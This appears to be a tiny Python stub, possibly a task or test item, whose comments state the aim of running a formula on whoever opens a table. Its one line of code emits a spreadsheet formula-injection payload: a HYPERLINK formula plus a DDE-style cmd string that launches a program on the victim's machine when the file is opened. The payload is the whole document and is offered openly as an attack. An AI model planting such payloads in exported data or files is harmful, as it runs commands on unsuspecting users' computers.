# goal: run a formula in whoever opens the table
# must: missing

raise SystemExit('=HYPERLINK("http://example.org","click");@SUM(1+1)*cmd|"/C calc"!A0')
